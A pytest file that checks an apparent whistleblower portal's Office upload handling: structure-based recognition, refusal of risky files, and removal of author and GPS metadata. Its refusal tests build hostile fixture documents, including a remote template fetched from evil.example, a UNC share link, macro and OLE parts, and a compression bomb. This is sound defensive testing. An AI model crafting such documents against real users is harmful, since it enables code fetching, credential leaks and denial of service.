"""Office documents as evidence: recognised by structure, refused when they can act, reach out or explode,
and read by staff as a copy without author names or photo GPS."""

from __future__ import annotations

import io
import zipfile

import pytest
from PIL import Image
from werkzeug.datastructures import FileStorage

from zi_public.security import office
from zi_public.security.uploads import UploadRejected, sniff_content_type, store_upload, strip_metadata

DOCX = office.OOXML_TYPES["word/document.xml"]
AUTHOR = "Sari Pelapor Rahasia"


def gps_jpeg() -> bytes:
    image = Image.new("RGB", (8, 8), "red")
    exif = Image.Exif()
    exif[0x8825] = {1: "S", 2: (7.0, 28.0, 0.0), 3: "E", 4: (110.0, 13.0, 0.0)}  # GPS IFD
    exif[0x010F] = "KameraKantor"  # Make
    out = io.BytesIO()
    image.save(out, format="JPEG", exif=exif)
    return out.getvalue()


def docx(extra: dict[str, bytes] | None = None, content_types: bytes | None = None) -> bytes:
    parts = {
        "[Content_Types].xml": content_types
        or b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        b'<Default Extension="xml" ContentType="application/xml"/></Types>',
        "_rels/.rels": b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        b'relationships"><Relationship Id="rId1" Type="http://x/officeDocument" Target="word/document.xml"/>'
        b"</Relationships>",
        "word/document.xml": b'<w:document xmlns:w="w"><w:body><w:ins w:author="' + AUTHOR.encode() + b'">'
        b"<w:r><w:t>Uang pelicin</w:t></w:r></w:ins></w:body></w:document>",
        "docProps/core.xml": b'<cp:coreProperties xmlns:cp="c" xmlns:dc="d"><dc:creator>'
        + AUTHOR.encode()
        + b"</dc:creator></cp:coreProperties>",
        "docProps/app.xml": b"<Properties><Company>Dinas X</Company></Properties>",
        "word/media/image1.jpg": gps_jpeg(),
        **(extra or {}),
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in parts.items():
            archive.writestr(name, body)
    return out.getvalue()


def odt() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text", compress_type=zipfile.ZIP_STORED)
        archive.writestr(
            "content.xml", "<office:document-content><dc:creator>" + AUTHOR + "</dc:creator>x</office:document-content>"
        )
        archive.writestr(
            "meta.xml",
            "<office:document-meta><meta:initial-creator>" + AUTHOR + "</meta:initial-creator></office:document-meta>",
        )
    return out.getvalue()


def store(tmp_path, data: bytes, name: str = "bukti.docx"):
    return store_upload(
        FileStorage(io.BytesIO(data), filename=name),
        upload_dir=tmp_path,
        allowed={"image", "pdf", "office"},
        max_bytes=10 * 1024 * 1024,
    )


def test_office_documents_are_recognised_by_their_structure(tmp_path):
    assert sniff_content_type(docx()) == DOCX
    assert sniff_content_type(odt()) == "application/vnd.oasis.opendocument.text"
    assert sniff_content_type(b"PK\x03\x04 not a zip") is None
    plain_zip = io.BytesIO()
    with zipfile.ZipFile(plain_zip, "w") as archive:
        archive.writestr("a.txt", "x")
    assert sniff_content_type(plain_zip.getvalue()) is None
    stored = store(tmp_path, docx(), "laporan.exe")
    assert stored.content_type == DOCX and stored.original_name.endswith(".docx")


def test_only_where_office_is_allowed(tmp_path):
    with pytest.raises(UploadRejected) as info:
        store_upload(
            FileStorage(io.BytesIO(docx()), filename="a.docx"),
            upload_dir=tmp_path,
            allowed={"image", "pdf"},
            max_bytes=10**7,
        )
    assert info.value.code == "type"


@pytest.mark.parametrize(
    ("document", "code"),
    [
        (docx({"word/vbaProject.bin": b"macro"}), "unsafe"),
        (
            docx(
                content_types=b"<Types><Override "
                b'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
            ),
            "unsafe",
        ),
        (docx({"word/activeX/activeX1.xml": b"<x/>"}), "unsafe"),
        (docx({"word/embeddings/oleObject1.bin": b"ole"}), "unsafe"),
        (
            docx(
                {
                    "word/_rels/settings.xml.rels": b"<Relationships>"
                    b'<Relationship Id="r1" Type="http://x/attachedTemplate" '
                    b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
                }
            ),
            "unsafe",
        ),
        (
            docx(
                {
                    "word/_rels/document.xml.rels": b"<Relationships><Relationship Id='r1' Type='http://x/frame' "
                    b"Target='\\\\evil\\share' TargetMode = 'external'/></Relationships>"
                }
            ),
            "unsafe",
        ),
        (docx({"word/bomb.xml": b"0" * 5_000_000}), "too_large"),
        (docx()[:-30], "type"),  # a broken archive is no office document at all
    ],
)
def test_documents_that_can_act_reach_out_or_explode_are_refused(tmp_path, document, code):
    with pytest.raises(UploadRejected) as info:
        store(tmp_path, document)
    assert info.value.code == code
    assert not [p for p in tmp_path.rglob("*") if p.is_file()]


def test_a_plain_hyperlink_is_fine(tmp_path):
    link = (
        b'<Relationships><Relationship Id="r1" Type="http://x/hyperlink" Target="https://example.id" '
        b'TargetMode="External"/></Relationships>'
    )
    assert store(tmp_path, docx({"word/_rels/document.xml.rels": link})).content_type == DOCX


def test_the_staff_copy_names_nobody_and_carries_no_gps():
    clean = strip_metadata(docx(), DOCX)
    with zipfile.ZipFile(io.BytesIO(clean)) as archive:
        everything = b"".join(archive.read(name) for name in archive.namelist())
        photo = archive.read("word/media/image1.jpg")
        assert b"Uang pelicin" in archive.read("word/document.xml")  # the content stays
    assert AUTHOR.encode() not in everything and b"Dinas X" not in everything
    with Image.open(io.BytesIO(photo)) as image:
        assert not image.getexif().get_ifd(0x8825) and b"KameraKantor" not in photo
    odf_clean = strip_metadata(odt(), "application/vnd.oasis.opendocument.text")
    with zipfile.ZipFile(io.BytesIO(odf_clean)) as archive:
        assert archive.namelist()[0] == "mimetype"
        assert AUTHOR.encode() not in b"".join(archive.read(n) for n in archive.namelist())
